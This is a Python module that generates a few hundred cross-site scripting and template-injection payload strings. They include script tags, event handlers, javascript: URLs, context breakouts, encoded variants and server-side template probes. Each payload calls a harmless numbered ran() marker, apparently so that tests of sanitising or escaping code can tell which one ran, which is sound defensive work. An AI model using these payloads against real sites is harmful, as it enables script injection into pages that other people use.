"""Texts that would run a script in a page that took them for more than text.

Each calls `ran(number)`; the number says which one it was.
"""

import html
from collections.abc import Iterator
from urllib.parse import quote

_SELF_STARTING = (
    "<script>{}</script>",
    "<SCRIPT>{}</SCRIPT>",
    "<scr\x09ipt>{}</script>",
    "<script src=data:text/javascript,{}></script>",
    "<img src=x onerror={}>",
    "<img/src=x/onerror={}>",
    "<img src=x onerror\n=\n{}>",
    "<IMG SRC=x OnErRoR={}>",
    "<svg onload={}>",
    "<svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set onbegin={} attributeName=x>",
    "<body onload={}>",
    "<video src=x onerror={}>",
    "<audio src=x onerror={}>",
    "<video><source onerror={}></video>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<style onload={}></style>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<iframe src=javascript:{}>",
    "<iframe srcdoc='<script>parent.{}</script>'>",
    "<marquee onstart={}>x</marquee>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<div hx-on:load={} hx-trigger=load>",
    "<div hx-get=javascript:{} hx-trigger=load>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href=javascript:{}>",
    "<base href='javascript:{}//'>",
    "<form action=javascript:{}><button autofocus>x</button></form>",
    "<a href=javascript:{}>x</a>",
)
_OUT_OF = (
    "", '">', "'>", "</title>", "</textarea>", "</option></select>", "</script>", "-->", "]]>",
)  # fmt: skip
_ATTRIBUTES = (
    '" onfocus="{}" autofocus="', "' onfocus='{}' autofocus='", " onfocus={} autofocus ",
    '" onmouseover="{}', "` onfocus={} autofocus `", '"onpointerenter="{}"x="', "\\\" onfocus={} ",
)  # fmt: skip
_TEMPLATES = (
    "{{{{ {} }}}}", "{{% for x in [1] %}}{}{{% endfor %}}", "${{{}}}", "#{{{}}}", "<%= {} %>",
    "{{{{ cycler.__init__.__globals__ }}}}{}", "{{{{ self.__class__ }}}}{}",
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "\x01javascript:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}", "';{}//", '";{}//', "\\';{}//", "</script><script>{}</script>", "`;{}//",
    "\u2028{}//", "'-{}-'", '"-{}-"', "*/{}/*", "//\n{}",
)  # fmt: skip
_MARKS = ("\u202e", "\u2066", "\u200f", "\ufeff", "\x1b[31m")


def payloads() -> tuple[str, ...]:
    """All of them, each once."""
    return tuple(text.format(f"ran({number})") for number, text in enumerate(_texts()))


def _texts() -> Iterator[str]:
    """What surrounds the call, of which {} is the place."""
    for text in _SELF_STARTING:
        yield from (out_of + text for out_of in _OUT_OF)
        yield html.escape(text)
        yield quote(text, safe="{}")
        yield "".join(f"&#{ord(c)};" if c in "<>" else c for c in text)
        yield "".join(f"\\x{ord(c):02x}" if c in "<>" else c for c in text)
        yield text.translate({ord("<"): "\uff1c", ord(">"): "\uff1e"})
        yield text.replace("<", "<<")
    yield from _ATTRIBUTES
    yield from _TEMPLATES
    for mark in _MARKS:
        yield from (f"{mark}{text}{mark}" for text in _SELF_STARTING[:9])
